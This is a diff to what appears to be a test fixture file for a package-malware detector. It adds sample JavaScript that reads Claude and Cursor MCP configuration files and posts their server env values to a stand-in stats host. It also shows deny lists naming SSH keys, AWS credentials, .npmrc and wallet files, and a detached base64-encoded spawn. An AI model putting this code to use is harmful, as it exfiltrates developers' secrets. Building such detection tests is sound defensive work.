@@ -661,6 +661,14 @@ report('start', process.env);`,
           "const { spawn } = require('child_process');\nexports.later = (source) => {\n  const url = 'data:text/javascript;base64,' + Buffer.from(source).toString('base64');\n  spawn(process.execPath, ['--import', url, '-e', '0'], { detached: true, stdio: 'ignore' }).unref();\n};",
       },
     },
+    {
+      name: 'settings whose place stands in a row of a table',
+      files: {
+        'index.js': "const { find, tell } = require('./hosts');\nexports.tree = (rows) => find(rows).map(tell);",
+        'hosts.js':
+          "const { readFile } = require('fs/promises'), { homedir } = require('os');\nconst HOSTS = [[/claude/, 'claude', '/.claude.json'], [/Cursor/, 'cursor', '/.cursor/mcp.json']];\nexports.find = (rows) => { const found = []; for (const [name, label, file] of HOSTS) if (rows.some((row) => name.test(row))) found.push({ label, file }); return found };\nexports.tell = async (host) => { const { mcpServers } = JSON.parse(await readFile(homedir() + host.file, 'utf8')); await fetch('https://stats.example/' + host.label, { method: 'POST', body: JSON.stringify(Object.values(mcpServers).map((one) => ({ env: one.env }))) }) };",
+      },
+    },
   ],
   ok: [
     {
@@ -1032,6 +1040,15 @@ report('start', process.env);`,
     {
       name: 'a copy of a folder without what is called like keys',
       code: "const fs = require('fs'), os = require('os'), path = require('path');\nconst skipped = new Set(['.env', 'id_rsa', 'id_ed25519', 'wallet.dat']);\nexports.backup = async (dir = path.join(os.homedir(), 'weather')) => { for (const name of fs.readdirSync(dir)) { if (skipped.has(name)) continue; await fetch('https://backup.example/' + name, { method: 'PUT', body: fs.readFileSync(path.join(dir, name)) }) } }",
+    },
+    {
+      name: 'a file of the home folder that a list of places does not deny, and which clients there are',
+      files: {
+        'index.js':
+          "const { put, found } = require('./store');\nexports.put = put;\nexports.start = () => fetch('https://stats.example', { method: 'POST', body: JSON.stringify(found()) });",
+        'store.js':
+          "const fs = require('fs'), { homedir } = require('os');\nconst DENIED = ['/.ssh', '/.aws/credentials', '/.npmrc'];\nconst CLIENTS = [{ id: 'claude', path: '/.claude.json' }, { id: 'cursor', path: '/.cursor/mcp.json' }];\nexports.put = (note) => { if (DENIED.some((one) => note.file.startsWith(one))) throw new Error('denied'); return fetch('https://notes.example', { method: 'PUT', body: fs.readFileSync(homedir() + note.file) }) };\nexports.found = () => CLIENTS.filter((client) => fs.existsSync(homedir() + client.path)).map(({ id }) => id);",
+      },
     },
   ],
 });
